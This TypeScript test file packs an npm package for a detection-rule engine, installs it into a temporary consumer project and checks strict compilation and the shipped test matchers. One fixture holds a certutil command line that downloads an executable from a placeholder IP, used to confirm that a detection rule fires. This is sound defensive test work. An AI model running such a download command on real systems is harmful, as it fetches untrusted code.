/**
 * The package as a consumer gets it (issue 13 deliverable 7): `npm pack`, unpacked into a fresh
 * project whose other dependencies are this checkout's installed ones (offline), then a strict
 * TypeScript build with skipLibCheck: false that imports every export, and the vitest matchers
 * running there against the shipped rules.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { repoRoot } from '../helpers/rules.js';

const project = mkdtempSync('/tmp/sigstream-consumer-');
const modules = join(project, 'node_modules');

function setUp(): void {
  const tarball = execFileSync('npm', ['pack', '--silent', '--ignore-scripts', '--pack-destination', project], { cwd: repoRoot, encoding: 'utf8' }).trim().split('\n').at(-1)!;
  mkdirSync(join(modules, 'sigstream'), { recursive: true });
  execFileSync('tar', ['-xzf', join(project, tarball), '-C', join(modules, 'sigstream'), '--strip-components=1']);
  // The tarball's dependencies (and the consumer's tools) from this checkout: no network.
  for (const name of readdirSync(resolve(repoRoot, 'node_modules'))) {
    if (name === 'sigstream' || name.startsWith('.')) continue;
    symlinkSync(resolve(repoRoot, 'node_modules', name), join(modules, name));
  }
  writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'consumer', type: 'module', private: true }));
  writeFileSync(
    join(project, 'tsconfig.json'),
    JSON.stringify({ compilerOptions: { target: 'ES2022', module: 'NodeNext', moduleResolution: 'NodeNext', strict: true, skipLibCheck: false, noEmit: true, types: ['node'], resolveJsonModule: true } }),
  );
  writeFileSync(
    join(project, 'uses-everything.ts'),
    `import * as lib from 'sigstream';
import * as testing from 'sigstream/testing';
import hitSchema from 'sigstream/hit.schema.json' with { type: 'json' };
import type { Hit, Engine, HitWriter, RuleSelection, EventFilterOptions } from 'sigstream';
const engine: Engine = await lib.createEngine(['node_modules/sigstream/rules'], { select: { minLevel: 'high' } satisfies RuleSelection });
const filter = lib.createEventFilter({ eventIds: [1] } satisfies EventFilterOptions);
const writer: HitWriter | undefined = lib.createWriter('csv', { out: process.stdout });
const hits: Hit[] = engine.detector.process({ EventID: 1 });
console.log(Object.keys(lib).length, Object.keys(testing).length, typeof hitSchema, filter.active, writer !== undefined, hits.length);
`,
  );
  writeFileSync(
    join(project, 'rules.test.ts'),
    `import { beforeAll, expect, it } from 'vitest';
import { sigstreamMatchers, useRules } from 'sigstream/testing';
expect.extend(sigstreamMatchers);
beforeAll(async () => { await useRules(['node_modules/sigstream/rules']); });
const certutil = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\\\Windows\\\\System32\\\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://198.51.100.23/a.exe a.exe' };
it('triggers', () => expect(certutil).toTrigger('Certutil Used to Download a File'));
it('a typo fails', () => expect(() => expect(certutil).not.toTrigger('Certutil Used to Downlaod a File')).toThrow(/no such rule/));
`,
  );
}

describe('the packed package in a consumer project', () => {
  setUp();
  it('tsc --strict with skipLibCheck: false compiles imports of every export', { timeout: 180_000 }, () => {
    const tsc = spawnSync('node', [resolve(repoRoot, 'node_modules/typescript/bin/tsc'), '-p', project], { encoding: 'utf8' });
    expect(tsc.stdout + tsc.stderr).toBe('');
    expect(tsc.status).toBe(0);
  });
  it('ships the docs, samples, schema, LICENSE and CHANGELOG the README links to', () => {
    const files = readdirSync(join(modules, 'sigstream'));
    for (const f of ['LICENSE', 'CHANGELOG.md', 'README.md', 'docs', 'samples', 'rules', 'attack', 'dist', 'engine']) expect(files).toContain(f);
  });
  it('the matchers run there under vitest', { timeout: 180_000 }, () => {
    const vitest = spawnSync('node', [resolve(repoRoot, 'node_modules/vitest/vitest.mjs'), 'run', '--root', project, '--dir', project], { cwd: project, encoding: 'utf8' });
    expect(vitest.stdout).toMatch(/2 passed/);
    expect(vitest.status).toBe(0);
  });
});
